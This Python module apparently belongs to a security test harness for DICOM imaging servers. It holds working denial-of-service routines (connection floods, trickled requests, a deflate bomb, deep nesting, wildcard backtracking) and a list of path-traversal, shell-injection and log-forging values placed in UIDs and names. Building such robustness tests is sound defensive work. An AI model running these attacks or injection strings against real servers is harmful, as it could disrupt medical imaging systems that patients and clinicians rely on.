"""What attackers do to a DICOM server, one function each.

`play` says in a few words what the server did.  Each ends by itself within a minute, and
plays against any server: nothing in here knows which.
"""

from __future__ import annotations

import ssl
import struct
import time
import zlib
from collections.abc import Callable
from contextlib import ExitStack, suppress
from dataclasses import dataclass

from attacks.peer import (
    ABORT,
    CT,
    DATA,
    DEFLATED_CONTEXT,
    ECHO_CONTEXT,
    FIND_CONTEXT,
    RELEASE_RP,
    RELEASE_RQ,
    RQ,
    STORE_CONTEXT,
    Closed,
    Peer,
    Target,
    associated,
    association,
    command,
    data_set,
    echo,
    find,
    pdu,
    pdv,
    store,
    summed_up,
)

_MIB = 1 << 20
_UNDEFINED = 0xFFFF_FFFF
#: A server that takes no connections is given up after so long.
_OPENING_SECONDS = 10.0


@dataclass(frozen=True)
class Attack:
    """*title* for people; *play* against a server, at a size of 0 to 1 of the real one.

    Attributes:
        wanted: pattern of what the attacker may get of ours; empty: no matter.
        needs_ours: other servers have not what it attacks.
    """

    name: str
    title: str
    play: Callable[[Target, float], str]
    wanted: str = ""
    needs_ours: bool = False


def many(number: int, scale: float) -> int:
    return max(int(number * scale), 3)


# Connections.


def opened(stack: ExitStack, port: int, number: int) -> list[Peer]:
    """So many connections, or as many as the server takes in a while."""
    until = time.monotonic() + _OPENING_SECONDS
    peers = []
    for _ in range(number):
        if time.monotonic() > until:
            break
        with suppress(Closed):
            peers.append(stack.enter_context(Peer(port, _OPENING_SECONDS / 10)))
    return peers


def idle_connections(target: Target, scale: float) -> str:
    with ExitStack() as stack:
        peers = opened(stack, target.port, many(1_000, scale))
        time.sleep(3 * scale)
        return f"{len(peers)} opened"


def half_open_handshakes(target: Target, scale: float) -> str:
    assert target.tls_port is not None
    context = ssl.create_default_context()
    context.check_hostname = False
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    hello = context.wrap_bio(incoming, outgoing)
    with suppress(ssl.SSLWantReadError):
        hello.do_handshake()
    half = outgoing.read()[:-20]
    with ExitStack() as stack:
        peers = opened(stack, target.tls_port, many(500, scale))
        for peer in peers:
            with suppress(Closed):
                peer.send(half)
        time.sleep(3 * scale)
        return f"{len(peers)} begun"


def trickling_requests(target: Target, scale: float) -> str:
    request = association(target.called)
    with ExitStack() as stack:
        peers = opened(stack, target.port, many(300, scale))
        until = time.monotonic() + 8 * scale
        sent = 0
        while time.monotonic() < until and sent < len(request) - 1:
            for peer in peers:
                with suppress(Closed):
                    peer.send(request[sent : sent + 1])
            sent += 1
            time.sleep(0.1)
        return f"{sent} bytes from each of {len(peers)}"


def connect_flood(target: Target, scale: float) -> str:
    number = many(10_000, scale)
    began = time.monotonic()
    done = 0
    while done < number and time.monotonic() - began < 60:
        with suppress(Closed), Peer(target.port, _OPENING_SECONDS / 10):
            pass
        done += 1
    return f"{60 * done / (time.monotonic() - began):,.0f} a minute"


def aborted_associations(target: Target, scale: float) -> str:
    fates = []
    until = time.monotonic() + 3 * _OPENING_SECONDS
    for _ in range(many(2_000, scale)):
        if time.monotonic() > until:
            break
        try:
            with associated(target) as peer:
                peer.send(pdu(ABORT, bytes(4)))
            fates.append("accepted")
        except Closed as closed:
            fates.append(str(closed))
    return summed_up(fates)


def full_of_associations(target: Target, scale: float) -> str:
    fates = []
    with ExitStack() as stack:
        peers = opened(stack, target.port, many(150, scale))
        for peer in peers:
            with suppress(Closed):
                peer.sock.settimeout(0.5)
                peer.send(association(target.called, "CROWD"))
                fates.append(peer.fate())
        return summed_up(fates)


# PDUs.


def announced_lengths(target: Target, scale: float) -> str:
    fates = []
    for pdu_type in (RQ, DATA, RELEASE_RQ, ABORT):
        for length in (_UNDEFINED, 1 << 30):
            try:
                with Peer(target.port) as peer:
                    if pdu_type != RQ:
                        peer.associate(target.called)
                    peer.send(pdu(pdu_type, bytes(1_000), length))
                    fates.append(peer.fate())
            except Closed as closed:
                fates.append(str(closed))
    return summed_up(fates)


def pdv_flood(target: Target, scale: float) -> str:
    empty = pdv(STORE_CONTEXT, 0, b"") * 1_000
    with associated(target) as peer:
        try:
            peer.send(command(STORE_CONTEXT, store("1.2.3"), has_data_set=True))
            for _ in range(many(500, scale)):
                peer.send(pdu(DATA, empty))
        except Closed:
            pass
        return peer.fate()


def zero_length_pdvs(target: Target, scale: float) -> str:
    fates = []
    for body in (pdv(1, 3, b"", 0), pdv(1, 3, b"", 1), pdv(1, 3, b"x", _UNDEFINED), b"\0", b""):
        try:
            with associated(target) as peer:
                peer.send(pdu(DATA, body))
                fates.append(peer.fate())
        except Closed as closed:
            fates.append(str(closed))
    return summed_up(fates)


def every_pdu_in_every_state(target: Target, scale: float) -> str:
    fates = []
    for before in ("nothing", "association", "release", "fault"):
        for pdu_type in (*range(9), 0x7F, 0xFF):
            try:
                with Peer(target.port) as peer:
                    if before != "nothing":
                        peer.associate(target.called)
                    if before == "release":
                        peer.send(pdu(RELEASE_RQ, bytes(4)))
                    if before == "fault":
                        peer.send(pdu(0x55, bytes(4)))
                    peer.send(pdu(pdu_type, bytes(4)))
                    peer.sock.settimeout(2)
                    fates.append(peer.fate())
            except Closed as closed:
                fates.append(str(closed))
    return summed_up(fates)


# DIMSE.


def messages_out_of_place(target: Target, scale: float) -> str:
    fates = []
    ask = command(ECHO_CONTEXT, echo())
    for before, said in (
        ("nothing", ask),
        ("association", command(99, echo())),
        ("association", command(2, echo())),
        ("association", next(data_set(STORE_CONTEXT, b"\x08\x00"))),
        ("release", ask),
        ("abort", ask),
    ):
        try:
            with Peer(target.port) as peer:
                peer.sock.settimeout(3)
                if before != "nothing":
                    peer.associate(target.called)
                if before == "release":
                    peer.send(pdu(RELEASE_RQ, bytes(4)))
                    peer.receive()
                if before == "abort":
                    peer.send(pdu(ABORT, bytes(4)))
                peer.send(said)
                fates.append(peer.fate())
        except Closed as closed:
            fates.append(str(closed))
    return summed_up(fates)


def one_message_id_for_all(target: Target, scale: float) -> str:
    fates = []
    try:
        with associated(target) as peer:
            for _ in range(many(50, scale)):
                peer.send(command(STORE_CONTEXT, store("1.2.3", 7), has_data_set=True))
                peer.send(command(ECHO_CONTEXT, echo(7)))
            fates.append(peer.fate())
    except Closed as closed:
        fates.append(str(closed))
    try:
        with associated(target) as peer:
            peer.send(command(ECHO_CONTEXT, echo(7)) * 500)
            fates += [f"{peer.status():04X}H" for _ in range(500)]
    except Closed as closed:
        fates.append(str(closed))
    return summed_up(fates)


def element(tag: int, vr: bytes, value: bytes) -> bytes:
    value += b"\0" * (len(value) % 2)
    return struct.pack("<HH2sH", tag >> 16, tag & 0xFFFF, vr, len(value)) + value


def _object(uid: str, rest: bytes = b"", study: str = "1.2.3.4") -> bytes:
    return (
        element(0x00080016, b"UI", CT.encode())
        + element(0x00080018, b"UI", uid.encode())
        + element(0x0020000D, b"UI", study.encode())
        + element(0x0020000E, b"UI", b"1.2.3.4.5")
        + rest
    )


def _stored(
    target: Target, uid: str, content: bytes, context_id: int = STORE_CONTEXT, size: int = 16_000
) -> str:
    try:
        with associated(target) as peer:
            with suppress(Closed):
                peer.send(command(context_id, store(uid), has_data_set=True))
                for piece in data_set(context_id, content, size):
                    peer.send(piece)
            return f"{peer.status():04X}H"
    except Closed as closed:
        return str(closed)


def deflate_bomb(target: Target, scale: float) -> str:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    bomb = [compressor.compress(_object("1.2.3.999"))]
    size = many(512, scale) * _MIB
    header = struct.pack("<HH2sxxI", 0x7FE0, 0x0010, b"OB", size)
    bomb.append(compressor.compress(header))
    bomb += [compressor.compress(bytes(_MIB)) for _ in range(size // _MIB)]
    bomb.append(compressor.flush())
    return _stored(target, "1.2.3.999", b"".join(bomb), DEFLATED_CONTEXT)


def nested(tag: int, depth: int) -> bytes:
    """So many sequences in each other."""
    begin = struct.pack("<HH2sxxI", tag >> 16, tag & 0xFFFF, b"SQ", _UNDEFINED) + struct.pack(
        "<HHI", 0xFFFE, 0xE000, _UNDEFINED
    )
    end = struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    return begin * depth + end * depth


def deep_nesting(target: Target, scale: float) -> str:
    deep = nested(0x0040A730, many(10_000, scale))
    return _stored(target, "1.2.3.998", _object("1.2.3.998", deep))


def lying_elements(target: Target, scale: float) -> str:
    fates = []
    for length in (0xFFFF_FFF0, 0x7FFF_FFFF):
        lie = struct.pack("<HH2sxxI", 0x0042, 0x0011, b"OB", length) + b"x" * 100
        fates.append(_stored(target, "1.2.3.997", _object("1.2.3.997", lie)))
    return summed_up(fates)


#: None of them may become a file outside of the server's own folder.
CANARY = "isocenter-canary"
UIDS_THAT_ARE_PATHS = (
    f"../../{CANARY}",
    f"..\\..\\{CANARY}",
    f"/tmp/{CANARY}",
    f"1.2/../../../{CANARY}",
    f"{CANARY}\0.dcm",
    "..",
    ".",
    "",
    f"1.2.3;touch {CANARY}",
    f"$(touch {CANARY})",
    "9" * 65,
)


def uids_that_are_paths(target: Target, scale: float) -> str:
    fates = []
    for uid in UIDS_THAT_ARE_PATHS:
        if uid:
            fates.append(_stored(target, uid, _object(uid)))
        fates.append(_stored(target, "1.2.3.996", _object("1.2.3.996", study=uid)))
    return summed_up(fates)


def forged_lines(target: Target, scale: float) -> str:
    fates = []
    for name in ("A\r\nFORGED", "A\x1b[2JFORGED", "A\x00FORGED"):
        request = association(target.called).replace(b"ATTACKER".ljust(16), name.encode().ljust(16))
        try:
            with Peer(target.port) as peer:
                peer.sock.settimeout(1)
                peer.send(request)
                fates.append(peer.fate())
                peer.send(command(STORE_CONTEXT, store("1.2\r\nFORGED"), has_data_set=True))
                peer.send(*data_set(STORE_CONTEXT, _object("1.2\r\nFORGED")))
                fates.append(peer.fate())
        except Closed as closed:
            fates.append(str(closed))
    return summed_up(fates)


def hard_wild_cards(target: Target, scale: float) -> str:
    """Patterns that a matcher which goes back and forth does not finish."""
    name = b"a" * 60
    stored = _stored(
        target,
        "1.2.3.995",
        element(0x00080016, b"UI", CT.encode())
        + element(0x00080018, b"UI", b"1.2.3.995")
        + element(0x00100010, b"PN", name)
        + element(0x00100020, b"LO", b"995")
        + element(0x0020000D, b"UI", b"1.2.3.995.1")
        + element(0x0020000E, b"UI", b"1.2.3.995.2"),
    )
    identifier = (
        element(0x00080052, b"CS", b"STUDY ")
        + element(0x00100010, b"PN", b"*a" * 30 + b"*b")
        + element(0x0020000D, b"UI", b"")
    )
    began = time.monotonic()
    try:
        with associated(target) as peer:
            peer.send(command(FIND_CONTEXT, find(), has_data_set=True))
            peer.send(*data_set(FIND_CONTEXT, identifier))
            status = f"{peer.status():04X}H"
    except Closed as closed:
        status = str(closed)
    took = time.monotonic() - began
    return f"stored {stored}, {status}" + (f" after {took:.0f} s" if took > 1 else "")


def peers_that_never_read(target: Target, scale: float) -> str:
    ask = command(ECHO_CONTEXT, echo()) * 200
    with ExitStack() as stack:
        sent = 0
        peers = []
        for _ in range(many(20, scale)):
            with suppress(Closed):
                peer = stack.enter_context(associated(target))
                peer.sock.settimeout(0.2)
                peers.append(peer)
        for peer in peers:
            with suppress(Closed):
                for _ in range(many(300, scale)):
                    peer.send(ask)
                    sent += 200
        return f"{sent:,} C-ECHO-RQs taken from {len(peers)} peers"


def crumbs(target: Target, scale: float) -> str:
    """Data sets whose PDVs hold two bytes each, as fast as the network takes them."""
    flood = pdu(DATA, pdv(STORE_CONTEXT, 0, b"xx") * 1_500)
    with ExitStack() as stack:
        peers = []
        for _ in range(5):
            with suppress(Closed):
                peer = stack.enter_context(associated(target))
                peer.send(command(STORE_CONTEXT, store("1.2.3.994"), has_data_set=True))
                peer.sock.settimeout(0.05)
                peers.append(peer)
        until = time.monotonic() + 5 * scale
        sent = 0
        while time.monotonic() < until:
            for peer in peers:
                with suppress(Closed):
                    peer.send(flood)
                    sent += 1_500
        return f"{sent:,} PDVs"


def release_and_say_nothing(target: Target, scale: float) -> str:
    fates = []
    with ExitStack() as stack:
        for peer in opened(stack, target.port, many(100, scale)):
            try:
                peer.sock.settimeout(1)
                peer.associate(target.called)
                peer.send(pdu(RELEASE_RQ, bytes(4)))
                pdu_type, _ = peer.receive()
                fates.append("released" if pdu_type == RELEASE_RP else f"PDU {pdu_type}")
            except Closed as closed:
                fates.append(str(closed))
        return summed_up(fates)


ATTACKS = (
    Attack("idle", "1,000 connections that say nothing", idle_connections),
    Attack(
        "half-open", "500 TLS handshakes that stop half way", half_open_handshakes, needs_ours=True
    ),
    Attack("trickle", "300 requests of a byte now and then", trickling_requests),
    Attack("connects", "10,000 connections, closed at once", connect_flood),
    Attack("aborts", "2,000 associations, aborted at once", aborted_associations),
    Attack("crowd", "150 associations at once", full_of_associations),
    Attack("released", "100 released, and not closed", release_and_say_nothing),
    Attack("lengths", "PDUs of 4 GiB, announced", announced_lengths),
    Attack("pdvs", "500,000 PDVs without data", pdv_flood),
    Attack("crumbs", "5 data sets in crumbs of two bytes", crumbs),
    Attack("zero", "PDVs shorter than their header", zero_length_pdvs),
    Attack("states", "every PDU type in every state", every_pdu_in_every_state),
    Attack("dimse", "messages before, after and beside an association", messages_out_of_place),
    Attack("ids", "one Message ID for all", one_message_id_for_all),
    Attack("bomb", "half a MiB that inflates to 512", deflate_bomb),
    Attack("nesting", "10,000 sequences in each other", deep_nesting),
    Attack("elements", "elements longer than their data set", lying_elements),
    Attack("paths", "UIDs that are paths or commands", uids_that_are_paths),
    Attack("log", "names that forge lines of a log", forged_lines),
    Attack("wildcards", "wild cards that take for ever", hard_wild_cards),
    Attack("unread", "20 peers that ask and never read", peers_that_never_read),
)
